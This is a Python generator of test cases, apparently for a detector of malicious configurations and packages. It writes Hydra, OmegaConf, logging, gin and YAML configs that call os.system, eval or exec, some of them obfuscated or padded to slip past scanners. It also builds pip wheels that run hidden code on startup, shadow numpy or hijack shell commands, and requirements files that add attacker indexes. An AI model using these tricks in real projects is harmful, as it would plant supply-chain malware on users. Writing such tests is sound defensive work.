"""Configurations that name what runs, and packages that are not what they seem to be: python3 malicious_configs.py OUT.

Those for Hydra (before 1.3.3, which refuses them), OmegaConf and gin fire where these are installed; the packages are installed by pip into a folder of their own.
"""
import base64, hashlib, io, json, os, struct, zipfile

from malicious import COMMAND, CASES, case, write

HANDLER = b"def handle(data, context):\n    return ['ok'] * len(data) if data else None\n"
HYDRA = "import hydra.utils, omegaconf; hydra.utils.instantiate(omegaconf.OmegaConf.load({0!r}))"
LOGGING_JSON = "import json, logging.config; logging.config.dictConfig(json.load(open({0!r})))"
LOGGING_INI = "import logging.config; logging.config.fileConfig({0!r})"

CONFIGS = {
    "target": f"_target_: os.system\ncommand: {COMMAND}\n",
    "nested": f"model:\n  parts:\n    - _target_: collections.Counter\n    - inner: {{_target_: subprocess.getoutput, cmd: {COMMAND}}}\n",
    "through-module": f"_target_: shutil.os.system\ncommand: {COMMAND}\n",
    "through-underscore": f"_target_: random._os.system\ncommand: {COMMAND}\n",
    "eval": "_target_: builtins.eval\n_args_: [\"open('fired','w').close()\"]\n",
    "exec-enum": "_target_: enum.bltns.exec\n_args_: [\"open('fired','w').close()\"]\n",
    "block": f"_target_: >-\n  os.system\ncommand: {COMMAND}\n",
    "escaped": f'"_targ\\x65t_": "os\\u002esystem"\ncommand: {COMMAND}\n',
    "anchored": f"what: [&it os.system]\nx:\n  _target_: *it\n  command: {COMMAND}\n",
    "interpolated": f"a: os\nb: system\nx:\n  _target_: ${{a}}.${{b}}\n  command: {COMMAND}\n",
    "default": f"x:\n  _target_: ${{oc.env:NO_SUCH_NAME,os.system}}\n  command: {COMMAND}\n",
    "method": "_target_: hydra.utils.call\nconfig:\n  _target_: builtins.exec\n  _args_: [\"open('fired','w').close()\"]\n",
    "timeit": "_target_: timeit.timeit\nstmt: \"open('fired','w').close()\"\nnumber: 1\n",
    "popen": f"_target_: subprocess.Popen\nargs: [touch, fired]\n",
    "call-of": f"_target_: os.system.__call__\n_args_: [{COMMAND}]\n",
    "move": "_target_: shutil.move\nsrc: c.yaml\ndst: fired\n",
    "runpy": "_target_: runpy.run_path\npath_name: notes.md\n",
}


def configurations():
    for name, text in CONFIGS.items():
        case(f"hydra-{name}", {"c.yaml": text.encode(), "h.py": HANDLER, "notes.md": b"open('fired','w').close()\n"}, HYDRA)
    case("hydra-utf16", {"c.yaml": f"_target_: os.system\ncommand: {COMMAND}\n".encode("utf-16"), "h.py": HANDLER}, "import hydra.utils, yaml; hydra.utils.instantiate(yaml.safe_load(open('c.yaml', 'rb')))")
    case("hydra-json", {"c.json": json.dumps({"a": [{"_target_": "os.popen", "cmd": COMMAND}]}).encode(), "h.py": HANDLER}, HYDRA + "; import time; time.sleep(.3)")
    case("hydra-padded", {"c.yaml": b"#" * (17 << 20) + f"\n_target_: os.system\ncommand: {COMMAND}\n".encode(), "h.py": HANDLER}, HYDRA)
    case("yaml-padded", {"c.yaml": b"#" * (17 << 20) + f"\n!!python/object/apply:os.system [{COMMAND}]\n".encode(), "h.py": HANDLER}, "import yaml; yaml.unsafe_load(open('c.yaml'))")
    case("yaml-utf16", {"c.yaml": f"!!python/object/apply:os.system [{COMMAND}]\n".encode("utf-16"), "h.py": HANDLER}, "import yaml; yaml.unsafe_load(open('c.yaml', 'rb'))")
    metadata = json.dumps({"__metadata__": {"config": json.dumps({"_target_": "os.system", "command": COMMAND})}}).encode()
    case("hydra-safetensors", {"m.safetensors": struct.pack("<Q", len(metadata)) + metadata, "h.py": HANDLER}, "import hydra.utils, json, struct\nraw = open('m.safetensors', 'rb').read()\nhydra.utils.instantiate(json.loads(json.loads(raw[8:])['__metadata__']['config']))")
    case("resolver-eval", {"c.yaml": b"a: ${eval:\"__import__('os').system('touch fired')\"}\n", "h.py": HANDLER}, "from omegaconf import OmegaConf as O; O.register_new_resolver('eval', eval); O.load('c.yaml').a")
    case("logging-factory", {"l.json": json.dumps({"version": 1, "formatters": {"a": {"()": "os.system", "command": COMMAND}}}).encode(), "h.py": HANDLER}, LOGGING_JSON)
    case("logging-ext", {"l.json": json.dumps({"version": 1, "filters": {"a": {"()": "ext://os.system", "command": COMMAND}}}).encode(), "h.py": HANDLER}, LOGGING_JSON)
    ini = "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys={0}\n[logger_root]\nhandlers=h\n[handler_h]\nclass={1}\nargs={2}\n{3}"
    case("logging-args", {"l.ini": ini.format("", "StreamHandler", "(os.system('touch fired') or None,)", "").encode(), "h.py": HANDLER}, LOGGING_INI)
    case("logging-class", {"l.conf": ini.format("", "__import__('os').system('touch fired')", "()", "").encode(), "h.py": HANDLER}, LOGGING_INI)
    case("logging-interpolated", {"l.ini": ini.format("", "StreamHandler", "(%(a)s,)\na=os.system('touch fired') or None", "").encode(), "h.py": HANDLER}, LOGGING_INI)
    case("gin", {"a.gin": b"from __gin__ import dynamic_registration\nimport os\nimport builtins\nbuiltins.dict.a = @os.system()\nos.system.command = 'touch fired'\n", "h.py": HANDLER}, "import gin; gin.parse_config_file('a.gin'); gin.get_configurable('dict')()")
    case("yolo-eval", {"m.yaml": b"backbone:\n  - [-1, 1, \"__import__('os').system('touch fired')\", [64]]\n", "h.py": HANDLER}, "import yaml\nfor f, n, m, args in yaml.safe_load(open('m.yaml'))['backbone']: eval(m)")


def wheel(name, files, record=None, version="1.0"):
    info = f"{name}-{version}.dist-info"
    files = {**files, f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode(), f"{info}/WHEEL": b"Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    lines = [f"{path},sha256={base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()},{len(data)}" for path, data in files.items()]
    text = "\n".join([*(lines if record is None else record), f"{info}/RECORD,,"]) + "\n"
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for path, data in [*files.items(), (f"{info}/RECORD", text.encode())]:
            entry = zipfile.ZipInfo(path)
            entry.external_attr = (0o100755 if "/scripts/" in path else 0o100644) << 16
            archive.writestr(entry, data)
    return f"{name}-{version}-py3-none-any.whl", made.getvalue()


INSTALL = "import os, subprocess, sys, venv\nvenv.create('v', with_pip=False, symlinks=True)\nsite = [os.path.join(r, 'site-packages') for r, d, f in os.walk('v') if 'site-packages' in d][0]\nsubprocess.run([sys.executable, '-m', 'pip', '-q', '--python', 'v/bin/python', 'install', '--no-deps', '--no-index', '-r', 'requirements.txt'], check=True)\n"
HIDDEN = b"def start(name='w'):\n    return open('fired', name).close()\n"


def package(name, made, then):
    path, data = made
    case(f"package-{name}", {path: data, "requirements.txt": f"./{path}\n".encode(), "h.py": HANDLER}, INSTALL + then)


def packages():
    start = "subprocess.run(['v/bin/python', '-c', 'pass'])"
    package("sitecustomize", wheel("dep", {"sitecustomize.py": b"import dep\ndep.start()\n", "dep/__init__.py": HIDDEN}), start)
    package("pth", wheel("dep", {"dep.pth": b"import dep; dep.start()\n", "dep/__init__.py": HIDDEN}), start)
    package("pth-data", wheel("dep", {"dep-1.0.data/purelib/dep.pth": b"import dep; dep.start()\n", "dep/__init__.py": HIDDEN}), start)
    package("numpy", wheel("dep", {"numpy/__init__.py": HIDDEN + b"start()\n"}), "subprocess.run(['v/bin/python', '-c', 'import numpy'])")
    package("named-numpy", wheel("numpy", {"numpy/__init__.py": HIDDEN + b"start()\n"}, version="99.0"), "subprocess.run(['v/bin/python', '-c', 'import numpy'])")
    package("entry-point", wheel("dep", {"dep/__init__.py": b"", "dep-1.0.dist-info/entry_points.txt": b"[plugins]\nrun = os:system\n"}), "subprocess.run(['v/bin/python', '-c', 'import importlib.metadata as m; [e.load()(\"touch fired\") for e in m.entry_points(group=\"plugins\")]'])")
    package("command", wheel("dep", {"dep/__init__.py": HIDDEN, "dep-1.0.dist-info/entry_points.txt": b"[console_scripts]\nls = dep:start\n"}), "subprocess.run('PATH=v/bin:$PATH ls', shell=True)")
    package("script", wheel("dep", {"dep/__init__.py": b"", "dep-1.0.data/scripts/curl": b"#!/bin/sh\ntouch fired\n"}), "subprocess.run('PATH=v/bin:$PATH curl', shell=True)")
    package("altered", wheel("dep", {"dep/__init__.py": HIDDEN + b"start()\n"}, record=[f"dep/__init__.py,sha256={base64.urlsafe_b64encode(hashlib.sha256(b'').digest()).rstrip(b'=').decode()},0"]), "subprocess.run(['v/bin/python', '-c', 'import dep'])")
    package("unlisted", wheel("dep", {"dep/__init__.py": b"from dep import more\n", "dep/more.py": HIDDEN + b"start()\n"}, record=["dep/__init__.py,sha256=x,20"]), "subprocess.run(['v/bin/python', '-c', 'import dep'])")


def requirements():
    """What pip would take from an index of the author's; whether it does is asked of pip's own reader."""
    asked = "import pip._internal.req.req_file as f, pip._internal.network.session as s, pip._internal.index.package_finder as p\nfrom types import SimpleNamespace as N\nfinder = N(index_urls=[], find_links=[], search_scope=None, trusted_hosts=[])\nlines = list(f.parse_requirements({0!r}, s.PipSession(), options=None))\nfor line in f.RequirementsFileParser(s.PipSession(), f.get_line_parser(None)).parse({0!r}, False):\n    urls = [line.opts.index_url, *(line.opts.extra_index_urls or [])]\n    if not line.is_requirement and any(u and 'example.invalid' in u for u in urls): open('fired', 'w').close()\n"
    url = "https://packages.example.invalid/simple"
    for name, text in {
        "utf16": f"--extra-index-url {url}\nx==1\n".encode("utf-16"),
        "utf7": b"# -*- coding: utf-7 -*-\n" + f"--extra-index-url {url}\n".encode("utf-7").replace(b"--", b"+AC0ALQ-") + b"x==1\n",
        "shortened": f"--extra {url}\nx==1\n".encode(),
        "attached": f"-i{url}\nx==1\n".encode(),
        "old-name": f"--pypi-url {url}\nx==1\n".encode(),
        "behind": f"--pre --index-url {url}\nx==1\n".encode(),
        "quoted": f"--index-'url' \"{url}\"\nx==1\n".encode(),
        "formfeed": f"x==1\f--index-url {url}\n".encode(),
        "commented": f"# see \\\n--index-url {url}\nx==1\n".encode(),
    }.items():
        case(f"requirements-{name}", {"requirements.txt": text, "h.py": HANDLER}, asked)


if __name__ == "__main__":
    import sys
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    configurations(); packages(); requirements()
    write(out, CASES)
    print(len(CASES))
